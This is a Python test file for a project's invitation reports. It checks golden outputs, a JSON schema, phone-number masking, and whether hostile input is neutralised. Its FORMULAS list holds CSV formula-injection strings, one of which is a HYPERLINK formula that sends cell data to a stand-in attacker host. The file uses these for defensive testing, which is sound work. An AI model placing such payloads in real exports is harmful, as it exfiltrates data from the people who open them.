"""Whole outputs of `invites`, compared with files that were read by somebody, and with the schema.

After a wanted change: `RENEW_GOLDEN=1 pytest tests/reports/test_invites.py`, then read the difference in Git.
"""

from __future__ import annotations

import csv as stdlib_csv
import io
import json as stdlib_json
import os
import re
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any, get_args

import jsonschema
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reconciler.model.change import Invite
from reconciler.model.desired import Person
from reconciler.model.invitation import Invitations, Invitee, InviteStatus
from reconciler.model.live import Problem
from reconciler.model.plan import Note
from reconciler.reports import csv, json, text
from reconciler.reports.invites_view import invites_view

from . import invitations
from .invitations import LINK
from .samples import BOOK, OPEN_BOOK, STRANGER
from .test_hostile import HOSTILE, SGR, assert_harmless

GOLDEN = Path(__file__).parent / "golden_invites"
SCHEMA = Path(__file__).resolve().parents[2] / "schemas/invites.schema.json"
SAMPLES = {
    "everything": invitations.EVERYTHING,
    "ready": invitations.READY,
    "nobody": invitations.NOBODY,
    "empty": Invitations(groups=()),
}


def in_text(found: Invitations, **options: int) -> str:
    return text.render_invites(invites_view(found, BOOK), color=False, **options)


CASES: dict[str, Callable[[], str]] = {
    "everything.txt": lambda: in_text(invitations.EVERYTHING),
    "narrow.txt": lambda: in_text(invitations.EVERYTHING, width=40),
    "colour.txt": lambda: text.render_invites(invites_view(invitations.EVERYTHING, BOOK), color=True),
    "ready.txt": lambda: in_text(invitations.READY),
    "nobody.txt": lambda: in_text(invitations.NOBODY),
    "everything.json": lambda: json.render_invites(invites_view(invitations.EVERYTHING, BOOK)),
    "everything.csv": lambda: csv.render_invites(invites_view(invitations.EVERYTHING, BOOK)),
}


@pytest.mark.parametrize("name", CASES)
def test_output(name: str) -> None:
    path = GOLDEN / name
    found = CASES[name]()
    if os.environ.get("RENEW_GOLDEN"):
        GOLDEN.mkdir(exist_ok=True)
        path.write_text(found, encoding="utf-8")
    assert found == path.read_text(encoding="utf-8")


def test_no_file_is_left_over() -> None:
    assert {path.name for path in GOLDEN.iterdir()} == set(CASES)


def test_a_link_stays_in_one_piece() -> None:
    for name in ("everything.txt", "narrow.txt", "everything.csv", "everything.json"):
        assert LINK in CASES[name]()


def test_only_numbers_of_who_is_invited_are_shown() -> None:
    for name, render in CASES.items():
        output = SGR.sub("", render())
        assert "98888-7777" not in output, name
        assert "NotThisOne" not in output, name
        assert f"{STRANGER}-15136" not in output.replace(f"{STRANGER}-1513616971", ""), name
    assert "98888-7777" in text.render_invites(invites_view(invitations.EVERYTHING, OPEN_BOOK), color=False)


# --- schema -----------------------------------------------------------------------------------------------


def document(found: Invitations) -> Any:
    return stdlib_json.loads(json.render_invites(invites_view(found, BOOK)))


def validator() -> jsonschema.Draft202012Validator:
    schema = stdlib_json.loads(SCHEMA.read_text(encoding="utf-8"))
    jsonschema.Draft202012Validator.check_schema(schema)
    return jsonschema.Draft202012Validator(schema)


@pytest.mark.parametrize("found", SAMPLES.values(), ids=SAMPLES)
def test_invitations_keep_to_their_schema(found: Invitations) -> None:
    validator().validate(document(found))


SPOILED: dict[str, Callable[[Any], object]] = {
    "no link": lambda found: found["groups"][6].pop("link"),
    "ready without a link": lambda found: found["groups"][6].update(link=None),
    "a junk link": lambda found: found["groups"][6].update(link="undefined"),
    "a link that is not to be given": lambda found: found["groups"][8].update(link=LINK),
    "no reason": lambda found: found["groups"][7].update(notes=[]),
    "an unknown status": lambda found: found["groups"][0].update(status="fine"),
    "a masked number": lambda found: found["groups"][6]["people"][0].update(number="+55 19 •••• 0002"),
    "no role": lambda found: found["groups"][6]["people"][0].pop("as"),
    "a contact that is null": lambda found: found["groups"][6]["people"][0].update(contact=None),
}


@pytest.mark.parametrize("spoil", SPOILED.values(), ids=SPOILED)
def test_the_schema_refuses_what_a_consumer_could_not_use(spoil: Callable[[Any], object]) -> None:
    found = document(invitations.EVERYTHING)
    assert validator().is_valid(found)
    spoil(found)
    assert not validator().is_valid(found)


def test_keys_and_their_order_are_the_contract_s() -> None:
    found = document(invitations.EVERYTHING)
    assert list(found)[:2] == ["format_version", "kind"]
    assert {group["status"] for group in found["groups"]} == set(get_args(InviteStatus))
    for group in found["groups"]:
        assert list(group)[:5] == ["name", "id", "subject", "link", "people"]
    assert list(found["groups"][6]["people"][0])[:3] == ["number", "contact", "as"]
    assert found["groups"][6]["people"][3] == {"number": f"+{STRANGER}", "as": "member"}


# --- hostile words ----------------------------------------------------------------------------------------


def invitations_with(words: str) -> Invitations:
    person = Invitee(Invite(Person((STRANGER,), alias=words or None, name=words or None), "member"))
    note = Note("said: {texts[0]}", texts=(words,))
    ready, failed = invitations.EVERYTHING.groups[6], invitations.EVERYTHING.groups[7]
    return Invitations(
        groups=(
            replace(ready, name=words or "x", subject=words, people=(person, person)),
            replace(failed, name=words or "y", subject=words, problem=Problem(words, words or "z", words)),
            replace(invitations.EVERYTHING.groups[4], notes=(note, Note(words))),
        ),
        all_read=False,
        notes=(note, Note(words)),
    )


FORMATS: dict[str, Callable[[str], str]] = {
    "text": lambda words: in_text(invitations_with(words)),
    "colour": lambda words: text.render_invites(invites_view(invitations_with(words), BOOK), color=True),
    "json": lambda words: json.render_invites(invites_view(invitations_with(words), BOOK)),
    "csv": lambda words: csv.render_invites(invites_view(invitations_with(words), BOOK)),
}


@pytest.mark.parametrize("words", HOSTILE.values(), ids=HOSTILE)
@pytest.mark.parametrize("name", FORMATS)
def test_no_character_acts(name: str, words: str) -> None:
    output = FORMATS[name](words)
    assert_harmless(name, output)
    assert not re.search(r"^\s*::", SGR.sub("", output), re.MULTILINE)
    if name == "json":
        validator().validate(stdlib_json.loads(output))


def rows(output: str, delimiter: str = ",") -> list[list[str]]:
    return list(stdlib_csv.reader(io.StringIO(output, newline=""), delimiter=delimiter))


FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("https://evil.example"&A1;"x")',
    "＝1+1",
    "x;=1+1",
    'x"; "=1+1',
    "x;y; @SUM(A1)",
    "'=1+1;=1+1",
    '"=1+1',
)


@pytest.mark.parametrize("delimiter", [",", ";"])
@pytest.mark.parametrize("words", FORMULAS)
def test_no_cell_is_a_formula_however_the_program_divides_a_line(words: str, delimiter: str) -> None:
    for row in rows(FORMATS["csv"](words), delimiter):
        for cell in row:
            assert not re.match(r"[\s\"]*[=+\-@＝＋－＠]", cell), cell


@given(st.text(max_size=60))
@settings(deadline=None)
def test_a_table_holds_whatever_was_written_row_by_row(words: str) -> None:
    output = FORMATS["csv"](words)
    assert_harmless("csv", output)
    found = rows(output)
    assert found[0] == list(csv.COLUMNS)
    assert len(found) == 3, "one row a person, and the head"
    assert all(len(row) == len(csv.COLUMNS) for row in found)
    assert found[1][2] == LINK
    assert found[1][5] == STRANGER


def test_ordinary_words_stay_as_they_are() -> None:
    row = rows(FORMATS["csv"]("José d'Ávila - São Paulo ☕, 100% (a+b)"))[1]
    assert row[4] == "José d'Ávila - São Paulo ☕, 100% (a+b)"
